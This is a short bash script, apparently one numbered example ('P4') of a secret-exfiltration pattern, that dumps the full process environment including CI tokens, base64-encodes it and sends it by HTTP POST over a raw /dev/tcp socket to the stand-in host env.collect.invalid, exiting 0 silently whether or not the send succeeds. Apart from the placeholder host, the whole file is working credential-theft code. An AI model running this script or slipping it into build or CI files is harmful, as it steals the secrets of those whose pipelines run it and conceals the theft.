#!/bin/bash
# P4 in plain shell: the whole environment (CI tokens included), base64'd, POSTed over /dev/tcp.
data=$(env | base64 -w0)
exec 3<>/dev/tcp/env.collect.invalid/80 || exit 0
printf 'POST /e HTTP/1.1\r\nHost: env.collect.invalid\r\nContent-Length: %s\r\nConnection: close\r\n\r\n%s' "${#data}" "$data" >&3
timeout 3 cat <&3 > /dev/null
exit 0
